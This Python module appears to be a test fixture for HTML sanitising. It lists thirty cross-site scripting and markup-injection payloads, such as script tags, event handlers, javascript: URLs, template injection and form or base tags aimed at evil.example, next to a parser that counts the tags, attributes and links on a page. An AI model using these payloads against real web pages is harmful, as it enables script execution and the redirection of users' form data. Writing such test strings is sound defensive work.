"""Texts that want to be HTML, and a parser that says what a page is made of."""

from __future__ import annotations

from collections import Counter
from html.parser import HTMLParser

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</pre></article><h1>taken over</h1>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><iframe src="javascript:alert(1)">',
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<!-- comment --><b>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<form action=//evil.example><input name=q></form>",
    "\x00<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u2066",
    "<details open ontoggle=alert(1)>",
    "<textarea><script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "{{constructor.constructor('alert(1)')()}}",
    "<plaintext>",
    "<template><script>alert(1)</script></template>",
)


class Structure(HTMLParser):
    """Elements and attribute names of a page, counted, and the text that a reader sees."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.attributes: Counter[tuple[str, str]] = Counter()
        self.links: list[str] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        for name, value in attrs:
            self.attributes[tag, name] += 1
            if name in ("src", "href", "action", "data", "srcset", "poster"):
                self.links.append(value or "")

    def handle_data(self, data: str) -> None:
        self.text.append(data)
